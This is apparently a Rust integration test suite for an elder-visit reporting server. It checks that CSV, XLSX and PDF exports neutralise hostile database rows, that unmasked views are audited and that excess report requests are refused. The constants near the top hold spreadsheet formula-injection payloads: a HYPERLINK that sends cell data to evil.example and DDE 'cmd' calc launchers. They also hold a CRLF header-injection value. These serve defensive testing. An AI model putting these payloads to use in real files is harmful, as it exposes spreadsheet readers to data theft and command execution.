//! Exports that cannot be turned against their readers or broken by one row, on
//! SQLite and PostgreSQL: hostile rows planted straight into the materialised tables
//! (as an older server, a bug or a hand-edited database could leave them) must not
//! stop any format, and CSV text must not run as a formula; an unmasked view is listed
//! with the exports; reports beyond the limit are refused at once, not queued.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{Backend, Client, TestServer, push_whole};
use jinlin_server::db::entity::{area, elder, follow_up, user, visit};
use jinlin_server::state::REPORT_RETRY_AFTER_SECONDS;
use jinlin_shared::ActorId;
use jinlin_shared::document::{Edit, ElderDocument};
use jinlin_shared::elder::{HardshipCategory, Profile};
use jinlin_shared::ids::{ElderId, FollowUpId, VisitId};
use jinlin_shared::materialise::{ElderRow, FollowUpRow};
use jinlin_shared::report::MonthlyReport;
use jinlin_shared::report::tables::Section;
use jinlin_shared::synthetic::{self, Rng};
use jinlin_shared::time::Timestamp;
use jinlin_shared::visit::FollowUp;
use jinlin_shared::wire::{ErrorBody, ErrorCode};
use sea_orm::sea_query::Expr;
use sea_orm::{ActiveValue::Set, ColumnTrait, EntityTrait, QueryFilter};

/// What a spreadsheet would run, typed as an elder's name.
const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?d=\"&C2,\"点此查看\")";
/// Control characters (NUL, bell, escape, a line break), an emoji, a character from
/// CJK Extension B, a Unicode non-character and text that looks like Excel's escapes.
const CONTROL_NAME: &str = "王\u{0}\u{7}\u{1b}[31m😀𠀀\u{FFFF}_x0041_\r\n李";
const MINUS_ADDRESS: &str = "-1+1（楼下）";
const TAB_ACTION: &str = "\t=cmd|' /C calc'!A0";
const AT_ASSISTANT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const FORMULA_COMMUNITY: &str = "=1+1和平社区";
const HEADER_CODE: &str = "350203001\"\r\nX-Evil: 1";
/// 09:30 on 1 June 1850 in Shanghai: before any date Excel can show.
const LONG_AGO_MILLIS: i64 = -3_773_773_800_000;

fn month_now() -> String {
    common::now().to_shanghai().format("%Y-%m").to_string()
}

/// Three special-hardship elders of 和平社区, enrolled a month ago, never visited.
fn elders(client: &Client, server: &TestServer) -> Vec<ElderDocument> {
    let at = common::now().plus_hours(-24 * 30);
    (0..3)
        .map(|seed| {
            let mut enrolment =
                synthetic::enrolment(&mut Rng::new(seed), server.community("350203001001"), at.shanghai_date(), at);
            enrolment.profile.categories = [HardshipCategory::LivingAlone].into();
            ElderDocument::enrol(enrolment, &Edit { author: client.author(), at }, ActorId::random()).unwrap().0
        })
        .collect()
}

/// Rewrites an elder's materialised profile in place.
async fn plant_profile(server: &TestServer, elder: ElderId, edit: impl FnOnce(&mut Profile)) {
    let stored = elder::Entity::find_by_id(elder.to_string()).one(&server.db).await.unwrap().unwrap();
    let mut row: ElderRow = serde_json::from_str(&stored.row).unwrap();
    edit(&mut row.profile);
    elder::Entity::update_many()
        .col_expr(elder::Column::Row, Expr::value(serde_json::to_string(&row).unwrap()))
        .filter(elder::Column::ElderId.eq(elder.to_string()))
        .exec(&server.db)
        .await
        .unwrap();
}

async fn rename_area(server: &TestServer, code: &str, name: &str) {
    area::Entity::update_many()
        .col_expr(area::Column::Name, Expr::value(name))
        .filter(area::Column::Code.eq(code))
        .exec(&server.db)
        .await
        .unwrap();
}

/// Plants every hostile row the test knows of; gives back the hostile long texts.
async fn plant(server: &TestServer, admin: &Client, docs: &[ElderDocument]) -> (String, String) {
    let long_address = "住".repeat(40_000);
    let long_district = format!("思明区😀\u{7}{}", "区".repeat(40_000));
    let address = long_address.clone();
    plant_profile(server, docs[0].elder_id(), |p| {
        p.name = FORMULA_NAME.into();
        p.address = address;
    })
    .await;
    plant_profile(server, docs[1].elder_id(), |p| {
        p.name = CONTROL_NAME.into();
        p.address = MINUS_ADDRESS.into();
    })
    .await;
    // Area names the import was given: one very long with an emoji and a control
    // character (the city's page lists districts), one a formula.
    rename_area(server, "350203", &long_district).await;
    rename_area(server, "350203001", "鹭江街道😀𠀀").await;
    // A code with a quote and a line break, which once went into the file's name.
    area::Entity::update_many()
        .col_expr(area::Column::Code, Expr::value(HEADER_CODE))
        .filter(area::Column::Code.eq("350203001"))
        .exec(&server.db)
        .await
        .unwrap();
    rename_area(server, "350203001001", FORMULA_COMMUNITY).await;
    user::Entity::update_many()
        .col_expr(user::Column::DisplayName, Expr::value(AT_ASSISTANT))
        .filter(user::Column::Login.eq("heping"))
        .exec(&server.db)
        .await
        .unwrap();
    // Elder 2's last valid visit in 1850, and a follow-up due then with a tab first.
    let elder = docs[2].elder_id();
    let community = server.community("350203001001").to_string();
    let long_ago = Timestamp::from_millis(LONG_AGO_MILLIS);
    visit::Entity::insert(visit::ActiveModel {
        visit_id: Set(VisitId::from_parts(1_780_000_000_000, [7; 10]).to_string()),
        elder_id: Set(elder.to_string()),
        assistant_id: Set(admin.login.user.id.to_string()),
        device_id: Set(admin.login.device.to_string()),
        visited_at: Set(LONG_AGO_MILLIS),
        recorded_at: Set(LONG_AGO_MILLIS),
        received_at: Set(LONG_AGO_MILLIS),
        mode: Set("home".into()),
        outcome: Set("metElder".into()),
        risk: Set("green".into()),
        incident: Set(None),
        voided: Set(false),
        row: Set("{}".into()),
    })
    .exec_without_returning(&server.db)
    .await
    .unwrap();
    let follow_up_id = FollowUpId::from_parts(1_780_000_000_000, [8; 10]);
    let row = FollowUpRow {
        elder_id: elder,
        follow_up_id,
        follow_up: FollowUp {
            origin_visit: None,
            action: TAB_ACTION.into(),
            due_at: long_ago,
            created_at: long_ago,
            created_by: admin.author(),
            resolution: None,
        },
    };
    follow_up::Entity::insert(follow_up::ActiveModel {
        follow_up_id: Set(follow_up_id.to_string()),
        elder_id: Set(elder.to_string()),
        community_id: Set(community),
        origin_visit: Set(None),
        due_at: Set(LONG_AGO_MILLIS),
        resolved_at: Set(None),
        row: Set(serde_json::to_string(&row).unwrap()),
    })
    .exec_without_returning(&server.db)
    .await
    .unwrap();
    server.state.forget_areas().await;
    (long_address, long_district)
}

async fn ok_bytes(client: &Client, query: &str) -> Vec<u8> {
    let response = client.get(&format!("/reports/monthly?{query}")).await;
    assert_eq!(response.status(), 200, "{query}");
    response.bytes().await.unwrap().to_vec()
}

/// The CSV's rows after its byte-order mark, headers included.
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..])
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// Reads a PDF back: one page, whose text holds `wanted`.
fn check_pdf(bytes: &[u8], wanted: &str) {
    let document = lopdf::Document::load_mem(bytes).unwrap();
    assert_eq!(document.get_pages().len(), 1, "one page");
    let text = document.extract_text(&[1]).unwrap();
    assert!(text.contains(wanted), "{wanted:?} on the page: {text}");
}

async fn hostile_rows_fail_no_export_and_csv_never_runs_a_formula(backend: Backend) {
    let server = TestServer::start(backend).await;
    let admin = Client::sign_in(&server, "admin").await;
    let docs = elders(&admin, &server);
    push_whole(&admin, &docs).await;
    let (long_address, long_district) = plant(&server, &admin, &docs).await;
    let month = month_now();
    let street = server.areas.areas().find(|a| a.code == "350203001").unwrap().id;

    // JSON keeps every text whole.
    let report: MonthlyReport = serde_json::from_slice(&ok_bytes(&admin, &format!("month={month}")).await).unwrap();
    assert_eq!(report.not_visited.len(), 3);
    assert!(report.not_visited.iter().any(|line| line.address == long_address));
    assert!(report.not_visited.iter().any(|line| line.name == CONTROL_NAME));
    assert_eq!(report.follow_ups_past_due.len(), 1);

    // CSV: every section answers; a text cell a spreadsheet would run is quoted, and
    // a cell that still begins like a formula is a number the report made.
    let mut cells: Vec<String> = Vec::new();
    for section in Section::ALL {
        let bytes = ok_bytes(&admin, &format!("month={month}&format=csv&section={}", section.slug())).await;
        cells.extend(csv_rows(&bytes).into_iter().flatten());
    }
    for cell in &cells {
        if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            assert!(cell.parse::<f64>().is_ok(), "a formula left in the CSV: {cell:?}");
        }
    }
    for wanted in [
        format!("'{FORMULA_NAME}"),
        format!("'{MINUS_ADDRESS}"),
        format!("'{TAB_ACTION}"),
        format!("'{FORMULA_COMMUNITY}"),
        CONTROL_NAME.to_owned(),
        long_address.clone(),
        long_district.clone(),
    ] {
        assert!(cells.contains(&wanted), "{:?} in the CSV", wanted.chars().take(40).collect::<String>());
    }
    assert!(cells.iter().any(|cell| cell.starts_with(&format!("'{AT_ASSISTANT}"))), "the assistants, quoted");

    // XLSX: the long texts cut to what a cell holds, the rest as they were, the dates
    // Excel cannot show as text; text is a string cell, never a formula.
    for query in [format!("month={month}&format=xlsx"), format!("month={month}&format=xlsx&area={street}&lang=en")] {
        check_workbook(&ok_bytes(&admin, &query).await, &long_address);
    }

    // PDF: the city's page lists the long district; the street's and the community's
    // pages are titled with an emoji, a rare character and a formula.
    check_pdf(&ok_bytes(&admin, &format!("month={month}&format=pdf")).await, "月度探访报告");
    check_pdf(&ok_bytes(&admin, &format!("month={month}&format=pdf&lang=en")).await, "monthly visit report");
    let response = admin.get(&format!("/reports/monthly?month={month}&format=pdf&area={street}")).await;
    assert_eq!(response.status(), 200);
    let disposition = response.headers()["content-disposition"].to_str().unwrap().to_owned();
    assert_eq!(disposition, format!("attachment; filename=\"jinlin-{month}-350203001___X-Evil__1.pdf\""));
    assert!(response.headers().get("x-evil").is_none());
    check_pdf(&response.bytes().await.unwrap(), "鹭江街道");
    check_pdf(&ok_bytes(&admin, &format!("month={month}&format=pdf&area=350203001001")).await, "和平社区");
    server.stop().await;
}
on_both_databases!(hostile_rows, super::hostile_rows_fail_no_export_and_csv_never_runs_a_formula);

fn check_workbook(bytes: &[u8], long_address: &str) {
    use calamine::{Data, Reader, Xlsx};
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let mut strings: Vec<String> = Vec::new();
    for name in book.sheet_names().clone() {
        let range = book.worksheet_range(&name).unwrap();
        strings.extend(range.rows().flatten().filter_map(|cell| match cell {
            Data::String(text) => Some(text.clone()),
            _ => None,
        }));
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(formulas.rows().flatten().all(String::is_empty), "no formula in {name}");
    }
    let cut = strings.iter().find(|text| text.starts_with("住住住")).expect("the long address");
    assert_eq!(cut.encode_utf16().count(), 32_767, "cut to what a cell holds");
    assert!(cut.ends_with('…') && long_address.starts_with(cut.trim_end_matches('…')));
    assert!(strings.iter().any(|text| text.starts_with("思明区😀\u{7}区区") && text.ends_with('…')), "the district");
    for whole in [FORMULA_NAME, CONTROL_NAME, MINUS_ADDRESS, TAB_ACTION, FORMULA_COMMUNITY] {
        assert!(strings.iter().any(|text| text == whole), "{whole:?} as written");
    }
    assert!(strings.iter().any(|text| text == "1850-06-01"), "the last visit, as text");
    assert!(strings.iter().any(|text| text.starts_with("1850-06-01 ")), "the follow-up's due time, as text");
}

async fn an_unmasked_view_is_listed_with_the_exports_and_a_masked_view_is_not(backend: Backend) {
    let server = TestServer::start(backend).await;
    let admin = Client::sign_in(&server, "admin").await;
    let lujiang = Client::sign_in(&server, "lujiang").await;
    let month = month_now();

    ok_bytes(&lujiang, &format!("month={month}&purpose=view")).await;
    ok_bytes(&admin, &format!("month={month}&purpose=view")).await;
    let reason = "%E6%A0%B8%E5%AF%B9%E8%BA%AB%E4%BB%BD"; // 核对身份
    ok_bytes(&admin, &format!("month={month}&purpose=view&unmasked=true&reason={reason}")).await;

    assert_eq!(server.count("audit_log WHERE action = 'report.view'").await, 2, "masked views audited");
    let exports: Vec<serde_json::Value> = admin.get("/reports/exports").await.json().await.unwrap();
    assert_eq!(exports.len(), 1, "only the unmasked view: {exports:#?}");
    let listed = &exports[0];
    assert_eq!((listed["by"].as_str(), listed["purpose"].as_str()), (Some("admin"), Some("view")));
    assert_eq!((listed["masked"].as_bool(), listed["reason"].as_str()), (Some(false), Some("核对身份")));

    let cli = std::process::Command::new(env!("CARGO_BIN_EXE_jinlin-server"))
        .args(["--database-url", &server.url, "exports"])
        .output()
        .unwrap();
    assert!(cli.status.success(), "{}", String::from_utf8_lossy(&cli.stderr));
    let lines: Vec<String> = String::from_utf8(cli.stdout).unwrap().lines().map(str::to_owned).collect();
    assert_eq!(lines.len(), 1, "{lines:?}");
    assert!(lines[0].contains("\tadmin\t") && lines[0].ends_with("UNMASKED\t核对身份\tview"), "{}", lines[0]);
    server.stop().await;
}
on_both_databases!(unmasked_views, super::an_unmasked_view_is_listed_with_the_exports_and_a_masked_view_is_not);

async fn reports_beyond_the_limit_are_refused_at_once_while_pushes_go_on(backend: Backend) {
    let server = TestServer::start(backend).await;
    let admin = Client::sign_in(&server, "admin").await;
    let query = format!("/reports/monthly?month={}", month_now());
    let slots = server.state.limits.concurrent_reports;
    assert!(slots >= 2, "more than one report at a time");

    // Every slot but one taken: the report is made.
    let most = server.state.report_slots.clone().try_acquire_many_owned(slots as u32 - 1).unwrap();
    assert_eq!(admin.get(&query).await.status(), 200);

    // Every slot taken: refused at once, in JSON, with when to come back.
    let last = server.state.report_slots.clone().try_acquire_owned().unwrap();
    let refused = admin.get(&query).await;
    assert_eq!(refused.status(), 503);
    let retry_after = refused.headers().get("retry-after").map(|v| v.to_str().unwrap().to_owned());
    assert_eq!(retry_after, Some(REPORT_RETRY_AFTER_SECONDS.to_string()));
    let body: ErrorBody = refused.json().await.unwrap();
    assert_eq!(body.error, ErrorCode::Unavailable, "{}", body.message);
    // A malformed request is still told so, and pushes are not held up.
    assert_eq!(admin.get("/reports/monthly?month=13").await.status(), 400);
    let docs = elders(&admin, &server);
    push_whole(&admin, &docs).await;
    assert_eq!(server.count("elders").await, 3);

    // A slot given back, the report is made again; the refused one was not audited.
    drop(last);
    assert_eq!(admin.get(&query).await.status(), 200);
    drop(most);
    assert_eq!(server.count("audit_log WHERE action = 'report.export'").await, 2);
    server.stop().await;
}
on_both_databases!(report_limit, super::reports_beyond_the_limit_are_refused_at_once_while_pushes_go_on);
